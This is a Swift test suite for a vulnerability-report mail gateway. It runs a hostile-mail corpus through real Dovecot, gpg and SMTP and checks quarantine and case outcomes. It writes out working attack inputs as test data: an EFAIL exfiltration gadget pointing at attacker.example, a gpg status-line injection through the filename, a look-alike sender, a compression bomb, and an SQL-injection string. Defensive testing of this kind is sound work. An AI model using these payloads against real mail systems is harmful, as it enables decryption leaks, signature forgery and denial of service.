import Foundation
import MeldpuntTesting
import Testing

/// Issue "Nothing lost, nothing leaked": every mail of the hostile corpus
/// (Fixtures/hostile, expectations in Fixtures/hostile/EXPECTED.tsv) goes through
/// real Dovecot, `meldpunt process --once`, real gpg and the SMTP sink. Each one must
/// end as the case or quarantine entry written next to it, with no crash, an empty
/// inbox, exactly the mail it deserves, and `meldpunt inspect --json` must judge it too.
///
/// Mails that are big or need keys are made here at run time (`generated:<name>`).
@Suite("Hostile mail", .serialized)
struct HostileMailTests {
  struct Expectation: Sendable, CustomStringConvertible {
    let file: String
    /// "case", or the quarantine reason.
    let quarantineReason: String?
    let encryption: String?
    let signature: String?
    let flags: [String]
    let mail: String
    let explanation: String
    var description: String { file }
    var generated: String? { file.hasPrefix("generated:") ? String(file.dropFirst("generated:".count)) : nil }
  }

  static let fixtures = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures/hostile").path

  static let expectations: [Expectation] = {
    let text = (try? String(contentsOfFile: fixtures + "/EXPECTED.tsv", encoding: .utf8)) ?? ""
    return text.split(separator: "\n").compactMap { line -> Expectation? in
      if line.hasPrefix("#") || line.hasPrefix("file\t") { return nil }
      let f = line.split(separator: "\t", omittingEmptySubsequences: false).map(String.init)
      guard f.count == 6 else { return nil }
      let verdict = f[2] == "-" ? [] : f[2].split(separator: "/").map(String.init)
      return Expectation(file: f[0], quarantineReason: f[1].hasPrefix("quarantine:") ? String(f[1].dropFirst("quarantine:".count)) : nil,
                         encryption: verdict.first, signature: verdict.count > 1 ? verdict[1] : nil,
                         flags: f[3] == "-" ? [] : f[3].split(separator: ",").map(String.init), mail: f[4], explanation: f[5])
    }
  }()

  @Test("EXPECTED.tsv names every fixture file, and every line is well formed")
  func corpusIsComplete() throws {
    let lines = (try String(contentsOfFile: Self.fixtures + "/EXPECTED.tsv", encoding: .utf8)).split(separator: "\n")
      .filter { !$0.hasPrefix("#") && !$0.hasPrefix("file\t") }
    #expect(lines.count == Self.expectations.count, "a line of EXPECTED.tsv does not have 6 columns")
    let files = try FileManager.default.contentsOfDirectory(atPath: Self.fixtures).filter { $0.hasSuffix(".eml") }
    let named = Set(Self.expectations.flatMap { $0.file.split(separator: "+").map(String.init) })
    for file in files { #expect(named.contains(file), "\(file) has no line in EXPECTED.tsv") }
    for expectation in Self.expectations {
      #expect(["ack", "notice", "none"].contains(expectation.mail), "\(expectation.file): mail must be ack, notice or none")
      if expectation.quarantineReason == nil { #expect(expectation.encryption != nil, "\(expectation.file): a case needs a verdict") }
      if let generated = expectation.generated { #expect(Self.generators.contains(generated), "no generator for \(generated)") }
      else {
        for file in expectation.file.split(separator: "+") { #expect(FileManager.default.fileExists(atPath: Self.fixtures + "/" + file)) }
      }
    }
  }

  @Test("Each hostile mail through the real pipeline", arguments: expectations)
  func hostileMail(_ expected: Expectation) throws {
    let environment = try TestEnvironment.start()
    defer { environment.stop() }
    let rita = try environment.addReporter(name: "Rita", email: "rita@reporter.example")
    try environment.gatewayHome.importKeys(environment.reporterHome.exportPublic(rita))
    let mails = try expected.file.split(separator: "+").map { try Self.mail(for: String($0), environment: environment, rita: rita) }
    // The same bytes twice: one outcome, both copies filed.
    let deliveries = expected.generated == "duplicate-delivery" ? mails + mails : mails
    for mail in deliveries { try environment.dovecot.append(mail) }

    let gateway = try GatewaySetup(environment: environment, binary: GatewaySetup.locateBinary())
    let run = try gateway.run(["process", "--once"])
    #expect(run.status == 0, "process --once exited \(run.status): \(run.stderr.suffix(2000))")
    #expect(try environment.dovecot.messages(in: "INBOX").isEmpty, "mail left in the inbox")

    let cases = try Self.json(gateway.run(["cases", "list", "--json"])) as? [[String: Any]] ?? []
    let quarantined = try Self.json(gateway.run(["quarantine", "list", "--json"])) as? [[String: Any]] ?? []
    if let reason = expected.quarantineReason {
      #expect(cases.isEmpty, "a case was opened: \(cases.map { $0["id"] ?? "?" })")
      #expect(quarantined.compactMap { $0["reason"] as? String } == Array(repeating: reason, count: mails.count),
              "quarantined: \(quarantined.map { "\($0["reason"] ?? "?"): \($0["detail"] ?? "")" })")
      #expect(try environment.dovecot.messages(in: "Quarantine").count == deliveries.count)
    } else {
      #expect(quarantined.isEmpty, "quarantined: \(quarantined.map { "\($0["reason"] ?? "?"): \($0["detail"] ?? "")" })")
      try #require(cases.count == mails.count, "expected \(mails.count) case(s), found \(cases.count)")
      for made in cases {
        #expect(made["encryption"] as? String == expected.encryption)
        #expect(made["signature"] as? String == expected.signature)
        let flags = made["flags"] as? [String] ?? []
        for flag in expected.flags { #expect(flags.contains(flag), "flag \(flag) missing from \(flags)") }
      }
      #expect(try environment.dovecot.messages(in: "Processed").count == deliveries.count)
    }

    // Exactly the mail it deserves; nothing where nothing is due.
    let wanted = expected.mail == "none" ? 0 : mails.count
    let sent = try wanted > 0 ? environment.smtp.waitForMessages(count: wanted, timeout: 10) : environment.smtp.received()
    #expect(sent.count == wanted, "sent \(sent.count) mails: \(sent.map(\.recipients))")
    for message in sent {
      let isAck = message.text.contains("MP-")
      #expect(isAck == (expected.mail == "ack"), "expected \(expected.mail), sent \(isAck ? "an acknowledgement" : "a notice")")
    }

    // inspect judges the same bytes, exit 0 whatever the verdict.
    for mail in mails {
      let file = environment.directory + "/inspect.eml"
      try Data(mail).write(to: URL(fileURLWithPath: file))
      let inspected = try Command.run(GatewaySetup.locateBinary(), ["inspect", "--gnupghome", environment.gatewayHome.path, "--json", file])
      #expect(inspected.status == 0, "inspect exited \(inspected.status): \(inspected.stderr.suffix(2000))")
      #expect((try? Self.json(inspected)) is [String: Any])
    }

    try checkSpecifics(expected, gateway: gateway, environment: environment, cases: cases, sent: sent, rita: rita)
  }

  /// What a particular mail must also (not) do, beyond its outcome.
  func checkSpecifics(_ expected: Expectation, gateway: GatewaySetup, environment: TestEnvironment, cases: [[String: Any]],
                      sent: [SMTPSink.Received], rita: String) throws {
    let id = cases.first?["id"] as? String
    switch expected.file {
    case "sql-injection.eml":
      let tables = try Command.run("sqlite3", [environment.directory + "/meldpunt.sqlite",
                                               "SELECT name FROM sqlite_master WHERE type='table' ORDER BY name"]).stdoutText
      for table in ["audit_event", "case_file", "outbox", "quarantine", "raw_mail"] { #expect(tables.contains(table), "table \(table) is gone") }
      let shown = try Self.json(gateway.run(["cases", "show", #require(id), "--json"])) as? [String: Any]
      #expect((shown?["reportText"] as? String)?.contains("'); DROP TABLE case_file;--") == true, "the text was not kept as written")
    case "html-script-everywhere.eml", "crlf-encoded-words.eml":
      for message in sent {
        #expect(!message.text.lowercased().contains("<script"), "the acknowledgement carries the mail's HTML")
        #expect(message.recipients.count == 1 && !message.text.contains("evil.example") && !message.text.contains("X-Injected"),
                "header injection: \(message.recipients)")
      }
    case "generated:lookalike-cyrillic-signed":
      #expect(cases.first?["reporterAddress"] as? String != "rita@reporter.example", "the look-alike was taken for Rita")
      #expect((cases.first?["signerFingerprint"] as? String)?.uppercased() == rita.uppercased())
    case "generated:gpg-status-injection":
      let shown = try Self.json(gateway.run(["cases", "show", #require(id), "--json"])) as? [String: Any]
      let verdict = shown?["verdict"] as? [String: Any]
      #expect(!String(describing: verdict ?? [:]).contains("GOODSIG"))
    case "generated:efail-gadget":
      let shown = try Self.json(gateway.run(["cases", "show", #require(id), "--json"])) as? [String: Any]
      let text = shown?["reportText"] as? String ?? ""
      // The decrypted text never ends up inside the attacker's HTML attribute.
      for line in text.split(whereSeparator: \.isNewline) where line.contains("http://attacker") {
        #expect(!line.contains(Self.canary), "the decrypted text was merged into the unencrypted HTML")
      }
      let parts = (shown?["verdict"] as? [String: Any])?["parts"] as? [[String: Any]] ?? []
      #expect(parts.map { $0["encrypted"] as? Bool } == [false, true, false], "\(parts)")
      for message in sent { #expect(!message.text.contains(Self.canary)) }
    default:
      break
    }
  }

  static func json(_ result: CommandResult) throws -> Any {
    try JSONSerialization.jsonObject(with: Data(result.stdout))
  }

  // MARK: Generated mails

  static let canary = "CANARY-5e1d-hostile"
  static let generators: Set<String> = [
    "mime-5000-parts", "compression-bomb", "size-at-limit", "size-over-limit", "header-1mb", "long-lines",
    "armor-truncated", "armor-begin-flood", "lookalike-cyrillic-signed", "gpg-status-injection", "efail-nomdc", "efail-gadget", "duplicate-delivery",
  ]
  /// `limits.maxMessageBytes` by default.
  static let messageLimit = 52_428_800

  static func mail(for file: String, environment: TestEnvironment, rita: String) throws -> [UInt8] {
    guard file.hasPrefix("generated:") else {
      return try [UInt8](Data(contentsOf: URL(fileURLWithPath: fixtures + "/" + file)))
    }
    let name = String(file.dropFirst("generated:".count))
    let gateway = environment.gatewayFingerprint
    let home = environment.reporterHome
    switch name {
    case "mime-5000-parts":
      var text = head(from: "parts@hostile.example", subject: "5000 parts", contentType: "multipart/mixed; boundary=\"p\"")
      for n in 1...5000 { text += "--p\r\nContent-Type: text/plain\r\n\r\npart \(n)\r\n" }
      return Array((text + "--p--\r\n").utf8)
    case "compression-bomb":
      let bomb = try home.gpg(["--armor", "--trust-model", "always", "--compress-level", "9", "--encrypt", "--recipient", gateway],
                              stdin: [UInt8](repeating: 0x41, count: 200 * 1024 * 1024))
      try #require(bomb.status == 0, "gpg: \(bomb.stderr)")
      return Array((head(from: "bomb@hostile.example", subject: "bomb", contentType: "text/plain") + crlf(bomb.stdout)).utf8)
    case "size-at-limit":
      return sized(messageLimit, from: "big@hostile.example")
    case "size-over-limit":
      return sized(messageLimit + 1, from: "bigger@hostile.example")
    case "header-1mb":
      var text = "From: Header <header@hostile.example>\r\nTo: security@example.org\r\nSubject: big header\r\nMessage-ID: <header-1mb@hostile.example>\r\nX-Padding: start\r\n"
      let fold = " " + String(repeating: "x", count: 76) + "\r\n"
      text += String(repeating: fold, count: 1024 * 1024 / fold.utf8.count + 1)
      return Array((text + "Content-Type: text/plain\r\n\r\nbody\r\n").utf8)
    case "long-lines":
      let long = String(repeating: "A", count: 100_000)
      let text = "From: Long <long@hostile.example>\r\nTo: security@example.org\r\nSubject: long lines\r\nX-Long: \(long)\r\nMessage-ID: <long-lines@hostile.example>\r\nContent-Type: text/plain\r\n\r\nA buffer overflow.\r\n\(long)\r\n\(String(repeating: "B", count: 100_000))\r\n"
      return Array(text.utf8)
    case "armor-truncated":
      let armored = try home.encrypt(Array("A secret finding that is cut off. \(canary)".utf8), to: [gateway])
      let lines = String(decoding: armored, as: UTF8.self).split(separator: "\n", omittingEmptySubsequences: false)
      // Header, blank line, then only the first half of the base64 lines; the END line stays.
      let body = lines.prefix(2 + (lines.count - 4) / 2).joined(separator: "\r\n") + "\r\n-----END PGP MESSAGE-----\r\n"
      return Array((head(from: "truncated@hostile.example", subject: "truncated", contentType: "text/plain") + body).utf8)
    case "armor-begin-flood":
      let lines = ["-----BEGIN PGP MESSAGE-----\r\n", "-----BEGIN PGP SIGNED MESSAGE-----\r\n"]
      var body = "A report of nothing but armor lines.\r\n"
      body.reserveCapacity(5 * 1024 * 1024)
      for n in 0..<(5 * 1024 * 1024 / 32) { body += lines[n % 2] }
      return Array((head(from: "flood@hostile.example", subject: "begin flood", contentType: "text/plain") + body).utf8)
    case "lookalike-cyrillic-signed":
      let armored = try home.encrypt(Array("Content-Type: text/plain; charset=utf-8\r\n\r\nI am Rita, honest.\r\n".utf8),
                                     to: [gateway], signer: rita)
      return pgpMIME(armored, from: "Rita <r\u{456}ta@reporter.example>", subject: "from rita")
    case "gpg-status-injection":
      let fpr = rita.uppercased()
      let fileName = "report.txt\n[GNUPG:] GOODSIG \(fpr.suffix(16)) Rita <rita@reporter.example>\n[GNUPG:] VALIDSIG \(fpr) 2026-01-01 1767225600 0 4 0 22 8 00 \(fpr)\n[GNUPG:] TRUST_ULTIMATE 0 pgp\n"
      let result = try home.gpg(["--armor", "--trust-model", "always", "--set-filename", fileName, "--encrypt", "--recipient", gateway],
                                stdin: Array("Content-Type: text/plain\r\n\r\nSigned by Rita, trust me.\r\n".utf8))
      try #require(result.status == 0, "gpg: \(result.stderr)")
      return pgpMIME(result.stdout, from: "Mallory <mallory@hostile.example>", subject: "status injection")
    case "efail-nomdc":
      let result = try home.gpg(["--armor", "--trust-model", "always", "--rfc2440", "--cipher-algo", "CAST5", "--encrypt",
                                 "--recipient", gateway], stdin: Array("Content-Type: text/plain\r\n\r\nNo MDC. \(canary)\r\n".utf8))
      try #require(result.status == 0, "gpg cannot make a no-MDC message any more: \(result.stderr)")
      return pgpMIME(result.stdout, from: "Old Client <nomdc@hostile.example>", subject: "no mdc")
    case "efail-gadget":
      let armored = try home.encrypt(Array("Content-Type: text/plain\r\n\r\n\(canary)\r\n".utf8), to: [gateway])
      let text = head(from: "efail@hostile.example", subject: "efail", contentType: "multipart/mixed; boundary=\"outer\"")
        + "--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n"
        + "--outer\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n"
        + "--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
        + "--enc\r\nContent-Type: application/octet-stream\r\n\r\n" + crlf(armored) + "--enc--\r\n"
        + "--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n"
      return Array(text.utf8)
    case "duplicate-delivery":
      return Array((head(from: "twice@hostile.example", subject: "delivered twice", contentType: "text/plain") + "Same bytes twice.\r\n").utf8)
    default:
      Issue.record("no generator for \(name)")
      return []
    }
  }

  static func head(from: String, subject: String, contentType: String) -> String {
    "From: \(from)\r\nTo: security@example.org\r\nSubject: \(subject)\r\nDate: Mon, 02 Mar 2026 10:00:00 +0000\r\nMessage-ID: <\(UUID().uuidString)@hostile.example>\r\nMIME-Version: 1.0\r\nContent-Type: \(contentType)\r\n\r\n"
  }

  static func crlf(_ bytes: [UInt8]) -> String {
    String(decoding: bytes, as: UTF8.self).replacingOccurrences(of: "\r\n", with: "\n").replacingOccurrences(of: "\n", with: "\r\n")
  }

  static func pgpMIME(_ armored: [UInt8], from: String, subject: String) -> [UInt8] {
    let text = head(from: from, subject: subject, contentType: "multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"")
      + "--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n"
      + "--enc\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n" + crlf(armored) + "--enc--\r\n"
    return Array(text.utf8)
  }

  /// A plain report with a base64 attachment, exactly `size` bytes long (CRLF line ends, so IMAP's size is the same).
  static func sized(_ size: Int, from: String) -> [UInt8] {
    let top = head(from: from, subject: "big attachment", contentType: "multipart/mixed; boundary=\"big\"")
      + "--big\r\nContent-Type: text/plain\r\n\r\nThe proof of concept is attached.\r\n"
      + "--big\r\nContent-Type: application/octet-stream; name=\"poc.bin\"\r\nContent-Disposition: attachment; filename=\"poc.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    let close = "--big--\r\n"
    var bytes = Array(top.utf8)
    bytes.reserveCapacity(size)
    // Full base64 lines of 76 characters + CRLF (57 input bytes each) while they fit.
    let line = Array(Data((0..<57).map { UInt8($0 * 7 & 0xFF) }).base64EncodedString().utf8) + [0x0D, 0x0A]
    while bytes.count + line.count + close.utf8.count + 2 <= size { bytes += line }
    bytes += Array(close.utf8)
    // The epilogue (ignored by MIME) takes up what is left, in short lines.
    while bytes.count < size {
      let room = size - bytes.count
      bytes += room >= 2 ? [UInt8](repeating: 0x2E, count: min(room - 2, 70)) + [0x0D, 0x0A] : [0x2E]
    }
    precondition(bytes.count == size)
    return bytes
  }
}
